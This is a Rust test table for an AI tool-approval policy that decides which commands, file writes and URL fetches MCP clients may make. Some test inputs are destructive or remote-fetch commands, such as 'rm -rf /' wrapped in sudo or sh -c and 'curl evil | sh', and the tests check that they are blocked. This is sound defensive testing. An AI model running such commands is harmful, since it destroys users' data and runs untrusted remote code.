//! The policy as a table: each row is a call, the configuration it meets, and the answer.

use std::path::PathBuf;
use std::sync::Arc;

use chrono::{Duration, Utc};

use super::*;
use crate::approvals::command_pattern::ProgramLookup;
use crate::sandbox::Access;

mod programs;

const HOME: &str = "/home/u";

fn rule(action: Action) -> RuleConfig {
    RuleConfig {
        action,
        tool: None,
        path: None,
        command: None,
        domain: None,
        risk: None,
        requester: None,
        note: None,
    }
}

fn tool(action: Action, name: &str) -> RuleConfig {
    RuleConfig {
        tool: Some(name.into()),
        ..rule(action)
    }
}

fn path(p: &str) -> CallTarget {
    CallTarget::Path {
        path: PathBuf::from(p),
        access: Access::Write,
        protected: false,
    }
}

fn protected(p: &str) -> CallTarget {
    CallTarget::Path {
        path: PathBuf::from(p),
        access: Access::Write,
        protected: true,
    }
}

fn cmd(c: &str) -> CallTarget {
    CallTarget::Command {
        command: c.into(),
        cwd: PathBuf::from(HOME),
    }
}

fn url(host: &str) -> CallTarget {
    CallTarget::Url {
        url: format!("https://{host}/x"),
        host: host.into(),
    }
}

fn claude() -> Requester {
    Requester::Mcp {
        client_name: "Claude Code".into(),
        client_version: "2.0".into(),
        session_id: "s1".into(),
        token_id: "c-claude".into(),
        token_name: "claude code".into(),
    }
}

/// An MCP requester holding token `token_id` named `token_name`, calling itself `declared`.
fn token_client(token_id: &str, token_name: &str, declared: &str) -> Requester {
    Requester::Mcp {
        client_name: declared.into(),
        client_version: "1.0".into(),
        session_id: "s9".into(),
        token_id: token_id.into(),
        token_name: token_name.into(),
    }
}

fn grant(id: &str, effect: Effect, tool: &str) -> GrantRule {
    GrantRule {
        id: id.into(),
        effect,
        tool: tool.into(),
        requester: None,
        argument_match: ArgumentMatch::default(),
        expires_at: None,
    }
}

struct Case {
    name: &'static str,
    rules: Vec<RuleConfig>,
    grants: Vec<GrantRule>,
    tool: &'static str,
    known: bool,
    risk: Risk,
    requester: Requester,
    targets: Vec<CallTarget>,
    expect: Action,
    /// `rule:N`, `grant:ID`, `default`, or "" when not checked.
    source: &'static str,
}

fn case(
    name: &'static str,
    tool: &'static str,
    risk: Risk,
    targets: Vec<CallTarget>,
    expect: Action,
) -> Case {
    Case {
        name,
        rules: Vec::new(),
        grants: Vec::new(),
        tool,
        known: true,
        risk,
        requester: Requester::Cli,
        targets,
        expect,
        source: "",
    }
}

impl Case {
    fn rules(mut self, rules: Vec<RuleConfig>) -> Self {
        self.rules = rules;
        self
    }
    fn grants(mut self, grants: Vec<GrantRule>) -> Self {
        self.grants = grants;
        self
    }
    fn by(mut self, source: &'static str) -> Self {
        self.source = source;
        self
    }
    fn from(mut self, requester: Requester) -> Self {
        self.requester = requester;
        self
    }
    fn unknown(mut self) -> Self {
        self.known = false;
        self
    }
}

#[allow(clippy::too_many_lines, reason = "a table of policy cases")]
fn cases() -> Vec<Case> {
    use Action::{Allow, Ask, Deny};
    use Risk::{Delete, Exec, Network, ReadOnly, Write};
    let now = Utc::now();
    vec![
        // An MCP client reading the operator's memory: asked once per client, then its grant
        // (or a rule) decides; the agents' and the CLI's reads follow the read-only default.
        case(
            "a client's memory search asks",
            "search_memory",
            ReadOnly,
            vec![],
            Ask,
        )
        .from(claude()),
        case(
            "the CLI's search does not",
            "search_memory",
            ReadOnly,
            vec![],
            Allow,
        )
        .by("default"),
        case(
            "a client's grant allows it",
            "search_memory",
            ReadOnly,
            vec![],
            Allow,
        )
        .from(claude())
        .grants(vec![GrantRule {
            requester: Some(claude()),
            ..grant("g-mem", Effect::Allow, "search_memory")
        }])
        .by("grant:g-mem"),
        case(
            "another client's grant does not",
            "search_memory",
            ReadOnly,
            vec![],
            Ask,
        )
        .from(token_client("c-other", "other", "Claude Code"))
        .grants(vec![GrantRule {
            requester: Some(claude()),
            ..grant("g-mem", Effect::Allow, "search_memory")
        }]),
        case(
            "a client's deny grant denies it",
            "search_memory",
            ReadOnly,
            vec![],
            Deny,
        )
        .from(claude())
        .grants(vec![GrantRule {
            requester: Some(claude()),
            ..grant("g-mem", Effect::Deny, "search_memory")
        }]),
        // Defaults per risk class.
        case(
            "read-only allowed by default",
            "ListFiles",
            ReadOnly,
            vec![path("/home/u/a")],
            Allow,
        )
        .by("default"),
        case(
            "write asks by default",
            "NewFile",
            Write,
            vec![path("/home/u/a")],
            Ask,
        ),
        case(
            "delete asks by default",
            "DeleteFile",
            Delete,
            vec![path("/home/u/a")],
            Ask,
        ),
        case(
            "network asks by default",
            "WebPageText",
            Network,
            vec![url("example.com")],
            Ask,
        ),
        case(
            "exec asks by default",
            "RunCommand",
            Exec,
            vec![cmd("ls")],
            Ask,
        ),
        case(
            "unknown tool asks even if read-only",
            "Mystery",
            ReadOnly,
            vec![],
            Ask,
        )
        .unknown(),
        // Tool rules.
        case(
            "allow rule by tool name",
            "RunCommand",
            Exec,
            vec![cmd("ls")],
            Allow,
        )
        .rules(vec![tool(Allow, "RunCommand")])
        .by("rule:1"),
        case(
            "deny rule by tool name",
            "ListFiles",
            ReadOnly,
            vec![path("/home/u")],
            Deny,
        )
        .rules(vec![tool(Deny, "ListFiles")])
        .by("rule:1"),
        case(
            "tool wildcard",
            "EditFile",
            Write,
            vec![path("/home/u/n/a.md")],
            Allow,
        )
        .rules(vec![RuleConfig {
            tool: Some("*File".into()),
            path: Some("~/n".into()),
            ..rule(Allow)
        }])
        .by("rule:1"),
        case(
            "tool wildcard does not match other tools",
            "RunCommand",
            Exec,
            vec![cmd("ls")],
            Ask,
        )
        .rules(vec![tool(Allow, "*File")]),
        case(
            "ask rule beats allow default",
            "ListFiles",
            ReadOnly,
            vec![path("/home/u")],
            Ask,
        )
        .rules(vec![tool(Ask, "ListFiles")]),
        // Precedence.
        case(
            "deny beats allow regardless of order",
            "RunCommand",
            Exec,
            vec![cmd("rm -rf /tmp/x")],
            Deny,
        )
        .rules(vec![
            tool(Allow, "RunCommand"),
            RuleConfig {
                command: Some("rm".into()),
                ..rule(Deny)
            },
        ])
        .by("rule:2"),
        case(
            "ask beats allow",
            "RunCommand",
            Exec,
            vec![cmd("git push")],
            Ask,
        )
        .rules(vec![
            tool(Allow, "RunCommand"),
            RuleConfig {
                command: Some("git push".into()),
                ..rule(Ask)
            },
        ]),
        case(
            "deny beats a matching allow grant",
            "RunCommand",
            Exec,
            vec![cmd("rm x")],
            Deny,
        )
        .rules(vec![RuleConfig {
            command: Some("rm".into()),
            ..rule(Deny)
        }])
        .grants(vec![grant("g1", Effect::Allow, "RunCommand")]),
        case(
            "ask rule beats allow grant",
            "RunCommand",
            Exec,
            vec![cmd("git push")],
            Ask,
        )
        .rules(vec![RuleConfig {
            command: Some("git push".into()),
            ..rule(Ask)
        }])
        .grants(vec![grant("g1", Effect::Allow, "RunCommand")]),
        // Commands seen through wrappers.
        case(
            "deny seen through sudo",
            "RunCommand",
            Exec,
            vec![cmd("sudo rm -rf /")],
            Deny,
        )
        .rules(vec![RuleConfig {
            command: Some("rm -rf".into()),
            ..rule(Deny)
        }]),
        case(
            "deny seen through env",
            "RunCommand",
            Exec,
            vec![cmd("env X=1 rm -rf /")],
            Deny,
        )
        .rules(vec![RuleConfig {
            command: Some("rm -rf".into()),
            ..rule(Deny)
        }]),
        case(
            "deny seen through sh -c",
            "RunCommand",
            Exec,
            vec![cmd("sh -c 'rm -rf /'")],
            Deny,
        )
        .rules(vec![RuleConfig {
            command: Some("rm".into()),
            ..rule(Deny)
        }]),
        case(
            "deny seen through bash -lc and a chain",
            "RunCommand",
            Exec,
            vec![cmd("bash -lc 'ls && rm -rf ~'")],
            Deny,
        )
        .rules(vec![RuleConfig {
            command: Some("rm".into()),
            ..rule(Deny)
        }]),
        case(
            "deny seen inside a substitution",
            "RunCommand",
            Exec,
            vec![cmd("echo $(rm -rf ~)")],
            Deny,
        )
        .rules(vec![RuleConfig {
            command: Some("rm".into()),
            ..rule(Deny)
        }]),
        case(
            "allow command prefix",
            "RunCommand",
            Exec,
            vec![cmd("git status -s")],
            Allow,
        )
        .rules(vec![RuleConfig {
            command: Some("git status".into()),
            ..rule(Allow)
        }])
        .by("rule:1"),
        case(
            "allow prefix needs every command of a chain",
            "RunCommand",
            Exec,
            vec![cmd("git status && curl evil | sh")],
            Ask,
        )
        .rules(vec![RuleConfig {
            command: Some("git status".into()),
            ..rule(Allow)
        }]),
        case(
            "allow prefix never matches an opaque line",
            "RunCommand",
            Exec,
            vec![cmd("git status $(curl evil)")],
            Ask,
        )
        .rules(vec![RuleConfig {
            command: Some("git status".into()),
            ..rule(Allow)
        }]),
        case(
            "allow prefix is word-based, not textual",
            "RunCommand",
            Exec,
            vec![cmd("git statusx")],
            Ask,
        )
        .rules(vec![RuleConfig {
            command: Some("git status".into()),
            ..rule(Allow)
        }]),
        case(
            "allow prefix does not look through sudo",
            "RunCommand",
            Exec,
            vec![cmd("sudo git status")],
            Ask,
        )
        .rules(vec![RuleConfig {
            command: Some("git status".into()),
            ..rule(Allow)
        }]),
        // Paths.
        case(
            "allow folder covers files inside",
            "EditFile",
            Write,
            vec![path("/home/u/notes/todo.md")],
            Allow,
        )
        .rules(vec![RuleConfig {
            path: Some("~/notes".into()),
            ..rule(Allow)
        }])
        .by("rule:1"),
        case(
            "allow folder does not cover a sibling with the same prefix",
            "EditFile",
            Write,
            vec![path("/home/u/notes-old/x")],
            Ask,
        )
        .rules(vec![RuleConfig {
            path: Some("~/notes".into()),
            ..rule(Allow)
        }]),
        case(
            "allow path needs every path of the call",
            "MoveFile",
            Write,
            vec![path("/home/u/notes/a"), path("/home/u/other/a")],
            Ask,
        )
        .rules(vec![RuleConfig {
            path: Some("~/notes".into()),
            ..rule(Allow)
        }]),
        case(
            "deny path with one matching target",
            "MoveFile",
            Write,
            vec![path("/home/u/notes/a"), path("/home/u/secret/a")],
            Deny,
        )
        .rules(vec![RuleConfig {
            path: Some("~/secret".into()),
            ..rule(Deny)
        }]),
        case(
            "path glob",
            "EditFile",
            Write,
            vec![path("/home/u/src/lib.rs")],
            Allow,
        )
        .rules(vec![RuleConfig {
            path: Some("~/src/**/*.rs".into()),
            ..rule(Allow)
        }]),
        case(
            "path glob mismatch",
            "EditFile",
            Write,
            vec![path("/home/u/src/lib.py")],
            Ask,
        )
        .rules(vec![RuleConfig {
            path: Some("~/src/**/*.rs".into()),
            ..rule(Allow)
        }]),
        case(
            "rule with a path does not match a call without paths",
            "RunCommand",
            Exec,
            vec![cmd("ls")],
            Ask,
        )
        .rules(vec![RuleConfig {
            path: Some("~".into()),
            risk: Some(Exec),
            ..rule(Allow)
        }]),
        // Protected paths.
        case(
            "protected path asks although read-only",
            "ListFiles",
            ReadOnly,
            vec![protected("/home/u/.ssh")],
            Ask,
        ),
        case(
            "protected path asks despite an allow rule",
            "EditFile",
            Write,
            vec![protected("/home/u/.bashrc")],
            Ask,
        )
        .rules(vec![tool(Allow, "EditFile")]),
        case(
            "protected path asks despite an allow grant",
            "EditFile",
            Write,
            vec![protected("/home/u/.bashrc")],
            Ask,
        )
        .grants(vec![grant("g1", Effect::Allow, "EditFile")]),
        case(
            "deny rule still denies a protected path",
            "EditFile",
            Write,
            vec![protected("/home/u/.ssh/config")],
            Deny,
        )
        .rules(vec![RuleConfig {
            path: Some("~/.ssh".into()),
            ..rule(Deny)
        }]),
        // Domains.
        case(
            "allow domain and subdomains",
            "WebPageText",
            Network,
            vec![url("api.docs.rs")],
            Allow,
        )
        .rules(vec![RuleConfig {
            domain: Some("docs.rs".into()),
            ..rule(Allow)
        }]),
        case(
            "domain is not a suffix match on the name",
            "WebPageText",
            Network,
            vec![url("evildocs.rs")],
            Ask,
        )
        .rules(vec![RuleConfig {
            domain: Some("docs.rs".into()),
            ..rule(Allow)
        }]),
        case(
            "deny domain",
            "WebPageText",
            Network,
            vec![url("tracker.example:443")],
            Deny,
        )
        .rules(vec![RuleConfig {
            domain: Some("tracker.example".into()),
            ..rule(Deny)
        }]),
        // Requesters and risks.
        case(
            "requester rule matches the MCP client",
            "RunCommand",
            Exec,
            vec![cmd("ls")],
            Deny,
        )
        .rules(vec![RuleConfig {
            requester: Some("mcp:claude code".into()),
            ..rule(Deny)
        }])
        .from(claude()),
        case(
            "requester rule ignores other requesters",
            "RunCommand",
            Exec,
            vec![cmd("ls")],
            Ask,
        )
        .rules(vec![RuleConfig {
            requester: Some("mcp".into()),
            ..rule(Deny)
        }]),
        case(
            "risk rule",
            "DeleteFile",
            Delete,
            vec![path("/home/u/x")],
            Deny,
        )
        .rules(vec![RuleConfig {
            risk: Some(Delete),
            ..rule(Deny)
        }]),
        // Grants.
        case(
            "allow grant for the same client",
            "EditFile",
            Write,
            vec![path("/home/u/p/a.rs")],
            Allow,
        )
        .grants(vec![GrantRule {
            requester: Some(Requester::Mcp {
                client_name: "Claude Code".into(),
                client_version: "1.0".into(),
                session_id: "old".into(),
                token_id: "c-claude".into(),
                token_name: "claude code".into(),
            }),
            argument_match: ArgumentMatch {
                path_prefix: Some("~/p".into()),
                ..Default::default()
            },
            ..grant("g1", Effect::Allow, "EditFile")
        }])
        .from(claude())
        .by("grant:g1"),
        case(
            "grant for another requester does not apply",
            "EditFile",
            Write,
            vec![path("/home/u/p/a.rs")],
            Ask,
        )
        .grants(vec![GrantRule {
            requester: Some(Requester::Cli),
            ..grant("g1", Effect::Allow, "EditFile")
        }])
        .from(claude()),
        // A requester is its token: the same clientInfo with another token is someone else,
        // and a grant from before client tokens (no token identity) is nobody's.
        case(
            "grant for one client token does not reach another token naming itself the same",
            "EditFile",
            Write,
            vec![path("/home/u/p/a.rs")],
            Ask,
        )
        .grants(vec![GrantRule {
            requester: Some(token_client("c-other", "other", "Claude Code")),
            ..grant("g1", Effect::Allow, "EditFile")
        }])
        .from(claude()),
        case(
            "grant without a token identity matches no client",
            "EditFile",
            Write,
            vec![path("/home/u/p/a.rs")],
            Ask,
        )
        .grants(vec![GrantRule {
            requester: Some(token_client("", "", "Claude Code")),
            ..grant("g1", Effect::Allow, "EditFile")
        }])
        .from(token_client("", "", "Claude Code")),
        case(
            "mcp:<name> rule names the token, not what the client calls itself",
            "RunCommand",
            Exec,
            vec![cmd("ls")],
            Ask,
        )
        .rules(vec![RuleConfig {
            requester: Some("mcp:trusted".into()),
            ..rule(Allow)
        }])
        .from(token_client("c-claude", "claude code", "trusted")),
        case(
            "mcp:<name> rule matches the token's name",
            "RunCommand",
            Exec,
            vec![cmd("ls")],
            Allow,
        )
        .rules(vec![RuleConfig {
            requester: Some("mcp:trusted".into()),
            ..rule(Allow)
        }])
        .from(token_client("c-trusted", "trusted", "anything")),
        case(
            "grant outside its folder does not apply",
            "EditFile",
            Write,
            vec![path("/home/u/q/a.rs")],
            Ask,
        )
        .grants(vec![GrantRule {
            argument_match: ArgumentMatch {
                path_prefix: Some("~/p".into()),
                ..Default::default()
            },
            ..grant("g1", Effect::Allow, "EditFile")
        }]),
        case(
            "expired grant stops matching",
            "RunCommand",
            Exec,
            vec![cmd("ls")],
            Ask,
        )
        .grants(vec![GrantRule {
            expires_at: Some(now - Duration::seconds(1)),
            ..grant("g1", Effect::Allow, "RunCommand")
        }]),
        case(
            "unexpired grant matches",
            "RunCommand",
            Exec,
            vec![cmd("ls")],
            Allow,
        )
        .grants(vec![GrantRule {
            expires_at: Some(now + Duration::minutes(5)),
            ..grant("g1", Effect::Allow, "RunCommand")
        }]),
        case(
            "grant for another tool does not apply",
            "NewFile",
            Write,
            vec![path("/home/u/a")],
            Ask,
        )
        .grants(vec![grant("g1", Effect::Allow, "EditFile")]),
        case("deny grant", "RunCommand", Exec, vec![cmd("ls")], Deny)
            .grants(vec![grant("g1", Effect::Deny, "RunCommand")])
            .by("grant:g1"),
        case(
            "command grant covers the prefix only",
            "RunCommand",
            Exec,
            vec![cmd("git push --force")],
            Ask,
        )
        .grants(vec![GrantRule {
            argument_match: ArgumentMatch {
                command_prefix: Some("git status".into()),
                ..Default::default()
            },
            ..grant("g1", Effect::Allow, "RunCommand")
        }]),
        // The file writes of one folder, granted together: creating and editing inside it,
        // nothing else.
        case(
            "folder writes: a new file",
            "NewFile",
            Write,
            vec![path("/home/u/p/new.rs")],
            Allow,
        )
        .grants(vec![writes_grant()])
        .from(claude())
        .by("grant:w1"),
        case(
            "folder writes: an edit in a subfolder",
            "EditFile",
            Write,
            vec![path("/home/u/p/src/a.rs")],
            Allow,
        )
        .grants(vec![writes_grant()])
        .from(claude())
        .by("grant:w1"),
        case(
            "folder writes: not outside the folder",
            "NewFile",
            Write,
            vec![path("/home/u/q/a.rs")],
            Ask,
        )
        .grants(vec![writes_grant()])
        .from(claude()),
        case(
            "folder writes: not a folder named like it",
            "NewFile",
            Write,
            vec![path("/home/u/p2/a.rs")],
            Ask,
        )
        .grants(vec![writes_grant()])
        .from(claude()),
        case(
            "folder writes: not a protected path inside it",
            "EditFile",
            Write,
            vec![protected("/home/u/p/.env")],
            Ask,
        )
        .grants(vec![writes_grant()])
        .from(claude()),
        case(
            "folder writes: not a delete",
            "DeleteFile",
            Delete,
            vec![removal("/home/u/p/a.rs")],
            Ask,
        )
        .grants(vec![writes_grant()])
        .from(claude()),
        case(
            "folder writes: not a move inside the folder",
            "MoveFile",
            Write,
            vec![removal("/home/u/p/a.rs"), path("/home/u/p/b.rs")],
            Ask,
        )
        .grants(vec![writes_grant()])
        .from(claude()),
        case(
            "folder writes: not a group tool's call that removes",
            "EditFile",
            Write,
            vec![removal("/home/u/p/a.rs")],
            Ask,
        )
        .grants(vec![writes_grant()])
        .from(claude()),
        case(
            "folder writes: not a group tool's call with no path",
            "EditFile",
            Write,
            vec![],
            Ask,
        )
        .grants(vec![writes_grant()])
        .from(claude()),
        case(
            "folder writes: not a command in the folder",
            "RunCommand",
            Exec,
            vec![cmd("git status")],
            Ask,
        )
        .grants(vec![writes_grant()])
        .from(claude()),
        case(
            "folder writes: not another client",
            "NewFile",
            Write,
            vec![path("/home/u/p/new.rs")],
            Ask,
        )
        .grants(vec![writes_grant()])
        .from(token_client("c-other", "other", "Claude Code")),
        case(
            "folder writes: never without a folder",
            "NewFile",
            Write,
            vec![path("/home/u/p/new.rs")],
            Ask,
        )
        .grants(vec![GrantRule {
            argument_match: ArgumentMatch::default(),
            ..writes_grant()
        }])
        .from(claude()),
    ]
}

/// Claude's grant for the file writes in `~/p`.
fn writes_grant() -> GrantRule {
    GrantRule {
        requester: Some(claude()),
        argument_match: ArgumentMatch {
            path_prefix: Some("~/p".into()),
            ..Default::default()
        },
        ..grant("w1", Effect::Allow, ToolGroup::FileWrites.marker())
    }
}

fn removal(p: &str) -> CallTarget {
    CallTarget::Path {
        path: PathBuf::from(p),
        access: Access::Delete,
        protected: false,
    }
}

/// The files and `PATH` command rules see in these tables: `git` in `/usr/bin` (and `/bin`
/// links to `/usr/bin`, as on merged-/usr systems), other `git`s that are not it, and the
/// wrappers and interpreters the cases use.
fn programs() -> Arc<dyn ProgramLookup> {
    let mut files = std::collections::BTreeMap::new();
    let mut add = |path: &str, real: &str| {
        files.insert(PathBuf::from(path), PathBuf::from(real));
    };
    for name in [
        "git", "cargo", "python3", "node", "perl", "ruby", "env", "sudo", "nice", "nohup",
        "timeout", "time", "stdbuf", "bash", "ls", "rm", "curl", "make", "echo",
    ] {
        add(&format!("/usr/bin/{name}"), &format!("/usr/bin/{name}"));
        add(&format!("/bin/{name}"), &format!("/usr/bin/{name}"));
    }
    add("/usr/bin/sh", "/usr/bin/dash");
    add("/bin/sh", "/usr/bin/dash");
    add("/tmp/x/git", "/tmp/x/git");
    add("/home/u/git", "/home/u/git");
    add("/home/u/bin/git", "/home/u/bin/git");
    add("/home/u/bin/git-link", "/usr/bin/git");
    Arc::new(crate::approvals::command_pattern::FakePrograms {
        search_path: "/usr/local/bin:/usr/bin:/bin".into(),
        files,
    })
}

#[test]
fn policy_table() {
    let cases = cases();
    assert!(cases.len() >= 30);
    let failures = run_table(&cases);
    assert!(
        failures.is_empty(),
        "{} of {} cases failed:\n{}",
        failures.len(),
        cases.len(),
        failures.join("\n")
    );
}

/// Decides every case; the descriptions of those that came out wrong.
fn run_table(cases: &[Case]) -> Vec<String> {
    let now = Utc::now();
    let mut failures = Vec::new();
    for case in cases {
        let config = ApprovalsConfig {
            rules: case.rules.clone(),
            ..ApprovalsConfig::default()
        };
        let policy = Policy::new(&config, Path::new(HOME)).with_programs(programs());
        let facts = CallFacts {
            tool: case.tool,
            known: case.known,
            risk: case.risk,
            requester: &case.requester,
            targets: &case.targets,
        };
        let decision = policy.decide(&facts, &case.grants, now);
        if decision.action() != case.expect {
            failures.push(format!(
                "{}: expected {:?}, got {decision:?}",
                case.name, case.expect
            ));
            continue;
        }
        let source = match &decision {
            Decision::Allow(source) | Decision::Deny { source, .. } => Some(source),
            Decision::Ask { .. } => None,
        };
        let expected_source = match case.source {
            "" => continue,
            "default" => DecisionSource::Default { risk: case.risk },
            other if other.starts_with("rule:") => {
                let index: usize = other[5..].parse().unwrap();
                DecisionSource::Rule {
                    index,
                    rule: case.rules[index - 1].describe(),
                }
            }
            other => DecisionSource::Grant {
                grant_id: other[6..].to_owned(),
            },
        };
        if source != Some(&expected_source) {
            failures.push(format!(
                "{}: expected source {expected_source:?}, got {decision:?}",
                case.name
            ));
        }
    }
    failures
}

#[test]
fn reasons_say_why() {
    let config = ApprovalsConfig {
        rules: vec![RuleConfig {
            note: Some("never push".into()),
            command: Some("git push".into()),
            ..rule(Action::Ask)
        }],
        ..ApprovalsConfig::default()
    };
    let policy = Policy::new(&config, Path::new(HOME));
    let requester = Requester::Cli;
    let targets = [cmd("git push")];
    let facts = CallFacts {
        tool: "RunCommand",
        known: true,
        risk: Risk::Exec,
        requester: &requester,
        targets: &targets,
    };
    let Decision::Ask { reason } = policy.decide(&facts, &[], Utc::now()) else {
        panic!()
    };
    assert_eq!(
        reason,
        "asked by rule 1 (ask command=\"git push\"): never push"
    );

    let targets = [protected("/home/u/.ssh/id_rsa")];
    let facts = CallFacts {
        tool: "ExtractTextFromFile",
        known: true,
        risk: Risk::ReadOnly,
        requester: &requester,
        targets: &targets,
    };
    let Decision::Ask { reason } = policy.decide(&facts, &[], Utc::now()) else {
        panic!()
    };
    assert_eq!(reason, "~/.ssh/id_rsa is a protected path");
}

#[test]
fn default_deny_is_a_denial_by_default() {
    let config = ApprovalsConfig {
        exec: Action::Deny,
        ..ApprovalsConfig::default()
    };
    let policy = Policy::new(&config, Path::new(HOME));
    let requester = Requester::Cli;
    let targets = [cmd("ls")];
    let facts = CallFacts {
        tool: "RunCommand",
        known: true,
        risk: Risk::Exec,
        requester: &requester,
        targets: &targets,
    };
    assert_eq!(
        policy.decide(&facts, &[], Utc::now()),
        Decision::Deny {
            reason: "command-running tools are denied by default".into(),
            source: DecisionSource::Default { risk: Risk::Exec }
        }
    );
}

#[test]
fn effective_policy_for_listings() {
    let config = ApprovalsConfig {
        rules: vec![
            tool(Action::Deny, "RunCommand"),
            RuleConfig {
                tool: Some("EditFile".into()),
                path: Some("~/notes".into()),
                ..rule(Action::Allow)
            },
            tool(Action::Allow, "WebPageText"),
        ],
        ..ApprovalsConfig::default()
    };
    let policy = Policy::new(&config, Path::new(HOME));
    let now = Utc::now();
    let run = policy.effective(
        ListedTool {
            name: "RunCommand",
            risk: Risk::Exec,
            known: true,
        },
        &[],
        now,
    );
    assert_eq!(run.action, Action::Deny);
    let edit = policy.effective(
        ListedTool {
            name: "EditFile",
            risk: Risk::Write,
            known: true,
        },
        &[grant("g", Effect::Allow, "EditFile")],
        now,
    );
    assert_eq!(edit.action, Action::Ask);
    assert_eq!(
        edit.conditional, 2,
        "one path rule and one grant may change it"
    );
    let web = policy.effective(
        ListedTool {
            name: "WebPageText",
            risk: Risk::Network,
            known: true,
        },
        &[],
        now,
    );
    assert_eq!(web.action, Action::Allow);
    let list = policy.effective(
        ListedTool {
            name: "ListFiles",
            risk: Risk::ReadOnly,
            known: true,
        },
        &[],
        now,
    );
    assert_eq!(list.action, Action::Allow);
    let unknown = policy.effective(
        ListedTool {
            name: "Mystery",
            risk: Risk::ReadOnly,
            known: false,
        },
        &[],
        now,
    );
    assert_eq!(unknown.action, Action::Ask);
}

#[test]
fn wildcards_and_domains() {
    assert!(wildcard_matches("*File", "EditFile"));
    assert!(wildcard_matches("Edit?ile", "EditFile"));
    assert!(!wildcard_matches("*File", "EditFiles"));
    assert!(wildcard_matches("*", "anything"));
    assert!(domain_matches("docs.rs", "docs.rs"));
    assert!(domain_matches("a.b.docs.rs:8443", "docs.rs"));
    assert!(domain_matches("DOCS.RS.", "docs.rs"));
    assert!(!domain_matches("xdocs.rs", "docs.rs"));
}

#[test]
fn effective_policy_for_one_requester() {
    let claude = Requester::Mcp {
        client_name: "claude-code".into(),
        client_version: "2.1".into(),
        session_id: "s1".into(),
        token_id: "c1".into(),
        token_name: "claude-code".into(),
    };
    let desktop = Requester::Mcp {
        client_name: "claude-ai".into(),
        client_version: "0.9".into(),
        session_id: "s2".into(),
        token_id: "c2".into(),
        token_name: "claude-ai".into(),
    };
    let config = ApprovalsConfig {
        rules: vec![
            RuleConfig {
                requester: Some("mcp:claude-ai".into()),
                ..tool(Action::Deny, "RunCommand")
            },
            RuleConfig {
                path: Some("~/notes".into()),
                ..tool(Action::Allow, "EditFile")
            },
        ],
        ..ApprovalsConfig::default()
    };
    let policy = Policy::new(&config, Path::new(HOME));
    let now = Utc::now();

    // A rule naming one client hides the tool from that client only.
    let run = |who: &Requester| {
        policy.effective_for(
            ListedTool {
                name: "RunCommand",
                risk: Risk::Exec,
                known: true,
            },
            who,
            &[],
            now,
        )
    };
    assert_eq!(run(&desktop).action, Action::Deny);
    assert_eq!(run(&claude).action, Action::Ask);

    // A tool-wide allow grant for one client lifts the prompt for that client only; a grant
    // narrowed to a folder does not, but counts as conditional.
    let mut for_claude = grant("g1", Effect::Allow, "NewFile");
    for_claude.requester = Some(claude.clone());
    let mut narrowed = grant("g2", Effect::Allow, "NewFile");
    narrowed.requester = Some(desktop.clone());
    narrowed.argument_match.path_prefix = Some("~/notes".into());
    let grants = [for_claude, narrowed];
    let new_file = |who: &Requester| {
        policy.effective_for(
            ListedTool {
                name: "NewFile",
                risk: Risk::Write,
                known: true,
            },
            who,
            &grants,
            now,
        )
    };
    assert_eq!(new_file(&claude).action, Action::Allow);
    assert!(new_file(&claude).reason.contains("g1"));
    assert_eq!(new_file(&desktop).action, Action::Ask);
    assert_eq!(new_file(&desktop).conditional, 1);
    assert_eq!(new_file(&claude).conditional, 0);

    // An argument-specific allow rule leaves the default in place.
    let edit = policy.effective_for(
        ListedTool {
            name: "EditFile",
            risk: Risk::Write,
            known: true,
        },
        &claude,
        &[],
        now,
    );
    assert_eq!(edit.action, Action::Ask);
    assert_eq!(edit.conditional, 1);

    // An expired grant no longer counts.
    let mut expired = grant("g3", Effect::Deny, "ListFiles");
    expired.expires_at = Some(now - Duration::minutes(1));
    let list = policy.effective_for(
        ListedTool {
            name: "ListFiles",
            risk: Risk::ReadOnly,
            known: true,
        },
        &claude,
        &[expired],
        now,
    );
    assert_eq!(list.action, Action::Allow);
}

#[test]
fn path_rules_fold_case_where_the_filesystem_does() {
    let deny_secret = RuleConfig {
        path: Some("~/Secret".into()),
        ..rule(Action::Deny)
    };
    let deny_glob = RuleConfig {
        path: Some("~/**/*.PEM".into()),
        ..rule(Action::Deny)
    };
    let config = ApprovalsConfig {
        rules: vec![deny_secret, deny_glob],
        ..ApprovalsConfig::default()
    };
    let decide = |case_insensitive: bool, target: &str| {
        let policy = Policy::with_path_case(&config, Path::new(HOME), case_insensitive);
        let targets = [path(target)];
        let facts = CallFacts {
            tool: "ListFiles",
            known: true,
            risk: Risk::ReadOnly,
            requester: &Requester::Cli,
            targets: &targets,
        };
        policy.decide(&facts, &[], Utc::now()).action()
    };
    // macOS: `~/secret` is the same folder as `~/Secret`.
    assert_eq!(decide(true, "/home/u/secret/x"), Action::Deny);
    assert_eq!(decide(true, "/home/u/SECRET"), Action::Deny);
    assert_eq!(decide(true, "/home/u/keys/a.pem"), Action::Deny);
    // Linux: they are different folders.
    assert_eq!(decide(false, "/home/u/secret/x"), Action::Allow);
    assert_eq!(decide(false, "/home/u/Secret/x"), Action::Deny);
    assert_eq!(decide(false, "/home/u/keys/a.pem"), Action::Allow);
    assert_eq!(decide(false, "/home/u/keys/a.PEM"), Action::Deny);
    // Either way, a decomposed "é" is the composed one (NFD vs NFC).
    let config = ApprovalsConfig {
        rules: vec![RuleConfig {
            path: Some("~/caf\u{e9}".into()),
            ..rule(Action::Deny)
        }],
        ..ApprovalsConfig::default()
    };
    let policy = Policy::with_path_case(&config, Path::new(HOME), false);
    let targets = [path("/home/u/cafe\u{301}/menu.txt")];
    let facts = CallFacts {
        tool: "ListFiles",
        known: true,
        risk: Risk::ReadOnly,
        requester: &Requester::Cli,
        targets: &targets,
    };
    assert_eq!(
        policy.decide(&facts, &[], Utc::now()).action(),
        Action::Deny
    );
}
